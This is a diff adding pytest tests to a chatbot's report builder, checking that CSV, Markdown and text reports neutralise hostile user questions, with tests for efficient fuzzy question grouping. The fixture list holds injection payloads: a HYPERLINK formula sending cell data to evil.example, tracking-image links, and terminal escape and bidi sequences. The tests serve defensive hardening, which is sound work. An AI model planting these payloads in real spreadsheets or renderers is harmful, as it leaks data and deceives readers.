@@ -4,12 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import random
+import re
 import time
 from dataclasses import replace
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
+from rapidfuzz import fuzz
 
+from bot.store import report as reporting
 from bot.store.database import Exchange, LoggedExchange, Store
 from bot.store.report import build_report, group_questions, report_from_db
 from handlers.followups import FollowupResolver
@@ -153,3 +158,74 @@ async def test_report_from_db(tmp_path: Path) -> None:
     assert [(r["intent"], r["down"], r["up"]) for r in report["lowest_rated"]] == [("chair", "1", "0")]
     with pytest.raises(FileNotFoundError):
         await report_from_db(tmp_path / "missing.db", 86400, ACCEPT)
+
+
+# --- hostile questions (issue 9) -------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1;"bấm vào đây")', "+1+1 cộng", "-2+3 trừ", "@SUM(1+1) tổng",
+    "\t=1+1 tab", "\r=1+1 cr", "ai chủ\rtrì hội\nnghị", "| cột | giả | bảng",
+    "![](http://evil.example/beacon.png) ảnh", "<img src=http://evil.example/x.png> thẻ",
+    "\x1b[2J\x1b]0;pwned\x07 xoá màn hình", "\u202eđảo chiều", "\x9b31m csi",
+]
+#: What must not reach a terminal or a renderer: control characters and bidi overrides.
+CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def hostile_report(fmt: str) -> str:
+    rows = [row(q, score=65.0, intent=None) for q in HOSTILE]  # unanswered, and near misses too
+    report = build_report(rows, ACCEPT, fmt, "since yesterday")
+    assert "HYPERLINK" in report and "pwned" in report  # they are shown, only neutralised
+    return report
+
+
+def test_csv_report_neutralises_formulas_and_line_breaks() -> None:
+    report = hostile_report("csv")
+    cells = [cell for record in csv.reader(io.StringIO(report)) for cell in record]
+    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
+    assert "'=HYPERLINK(" in cells[-1] or any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert not CONTROLS.search(report.replace("\n", ""))  # one record per line, no CR anywhere
+
+
+def test_markdown_report_shows_hostile_text_as_text() -> None:
+    report = hostile_report("md")
+    assert not CONTROLS.search(report.replace("\n", ""))
+    for block in report.split("\n## ")[1:]:
+        table = [line for line in block.splitlines() if line.startswith("|")]
+        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) <= 1, block  # no extra columns
+    assert "\\!\\[\\](http://evil.example/beacon.png)" in report  # the image is text, not fetched
+    assert "\\<img src=" in report  # and so is the HTML
+
+
+def test_text_report_sends_no_terminal_escapes() -> None:
+    report = hostile_report("text")
+    assert not CONTROLS.search(report.replace("\n", ""))
+    assert "\\x1b[2J" in report  # shown, visibly
+
+
+def test_grouping_compares_each_question_with_few_others(monkeypatch: pytest.MonkeyPatch) -> None:
+    # A week of junk: thousands of distinct questions. Comparing each with every group is
+    # quadratic (10,000 took 36 s); each must be compared with a bounded number of groups.
+    calls = 0
+
+    def counting(a: str, b: str, **kwargs: object) -> float:
+        nonlocal calls
+        calls += 1
+        return fuzz.token_sort_ratio(a, b, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(reporting, "fuzz", SimpleNamespace(token_sort_ratio=counting))
+    rng = random.Random(9)
+    vocabulary = ["ai", "chủ", "trì", "hội", "nghị", "năm", "là", "gì", "bao", "nhiêu", "đại", "biểu", "nhiệm",
+                  "vụ", "dân", "vận", "tỉnh", "ủy", "giá", "vàng"]
+    questions = [" ".join(rng.choices(vocabulary, k=rng.randint(3, 9))) + f" {rng.randint(0, 10**6)}"
+                 for _ in range(4000)]
+    groups = group_questions(questions)
+    assert sum(count for count, _ in groups) == len(questions)
+    # At most 8 lookup keys × 50 groups each; comparing with every group took 1,160 per question here.
+    assert calls <= 400 * len(questions), f"{calls} comparisons for {len(questions)} questions"
+
+
+def test_grouping_still_merges_typos_and_word_order() -> None:
+    groups = group_questions(["ai chủ trì hội nghị", "ai chu tri hoi ngi", "hội nghị ai chủ trì",
+                              "ai chủ trì hội nghị?", "giá vàng hôm nay", "gia vang hom nay bao nhieu"])
+    assert groups == [(4, "ai chủ trì hội nghị"), (2, "giá vàng hôm nay")]
